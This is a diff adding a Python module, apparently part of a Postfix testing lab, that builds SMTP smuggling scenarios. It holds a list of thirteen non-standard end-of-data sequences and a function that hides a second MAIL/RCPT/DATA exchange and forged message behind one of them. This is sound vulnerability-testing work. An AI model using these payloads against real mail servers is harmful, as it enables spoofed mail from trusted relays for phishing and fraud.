@@ -1,0 +1,83 @@
+"""SMTP smuggling: a message that hides a second one behind something that looks like the end of data.
+
+RFC 5321 section 4.1.1.4 knows one end of data, `<CR><LF>.<CR><LF>`. Where the server that sends takes another
+sequence for content, and the one that receives takes it for the end, what follows is read as commands: a mail that
+nobody has checked, from a server that is trusted (CVE-2023-51764 for Postfix, 51765 for Sendmail, 51766 for Exim).
+"""
+
+from __future__ import annotations
+
+import re
+
+from postfix_lab.errors import InputError
+from postfix_lab.internet.smtp.dialogue import Burst, Command, Dialogue
+from postfix_lab.scenario.misbehaviour.change import (
+    Change,
+    as_it_is,
+    command_at,
+    message_at,
+    named,
+    on_the_wire,
+    with_steps,
+)
+
+SMUGGLING = (
+    "<LF>.<LF>",
+    "<LF>.<CR><LF>",
+    "<CR><LF>.<LF>",
+    "<LF>.<CR>",
+    "<CR>.<LF>",
+    "<CR>.<CR>",
+    "<CR>.<CR><LF>",
+    "<CR><LF>.<CR>",
+    "<LF><LF>.<CR><LF>",
+    "<CR><LF>.<CR><CR><LF>",
+    "<CR><LF><NUL>.<CR><LF>",
+    "<CR><LF>.<NUL><CR><LF>",
+    "<CR><LF><NUL>.<LF>",
+)
+"""The known ones, as Postfix's documents write them. `<CR><CR><LF>.<CR><LF>` is none: it ends with the true end."""
+_NAMED = {"CR": "\r", "LF": "\n", "NUL": "\0"}
+_NAME = re.compile("<(CR|LF|NUL)>")
+
+
+def spelled(text: str) -> str:
+    """The text with the octets that `<CR>`, `<LF>` and `<NUL>` stand for."""
+    return _NAME.sub(lambda found: _NAMED[found[1]], text)
+
+
+def octets_named(sequence: str) -> str:
+    r"""The octets of a sequence like `<CR><LF>.<LF>`.
+
+    >>> octets_named("<CR><LF>.<NUL><LF>")
+    '\r\n.\x00\n'
+    """
+    octets = spelled(sequence)
+    if not sequence.isascii() or not sequence.isprintable() or not octets or set("<>") & set(octets):
+        raise InputError(f"{sequence!r} is no sequence of octets; write it with <CR>, <LF> and <NUL>, as in <LF>.<LF>")
+    return octets
+
+
+@named
+def smuggled(sequence: str = "<LF>.<LF>", *, sender: str = "smuggled@good.example") -> Change:
+    """A second mail, from that sender to the last recipient, behind that sequence inside of the message.
+
+    All of it is sent in one go, as a server that relays the message would. If the sequence ends the data, there are
+    replies to MAIL, RCPT, DATA and a second MESSAGE, else one to one message; postconf `smtpd_forbid_bare_newline`.
+    """
+    octets = octets_named(sequence)
+
+    def change(dialogue: Dialogue) -> Dialogue:
+        place, message = message_at(dialogue, "smuggled")
+        _, recipient = command_at(dialogue, "RCPT", "smuggled")
+        second = f"From: <{sender}>\nSubject: smuggled\n\nNobody has checked this message.\n"
+        parts = (
+            as_it_is(on_the_wire(message.content, end=False) + octets),
+            Command(f"MAIL FROM:<{sender}>", "MAIL"),
+            recipient,
+            Command("DATA", "DATA"),
+            as_it_is(on_the_wire(second)),
+        )
+        return with_steps(dialogue, place, [Burst(parts, sure=1, stage="MESSAGE")])
+
+    return change
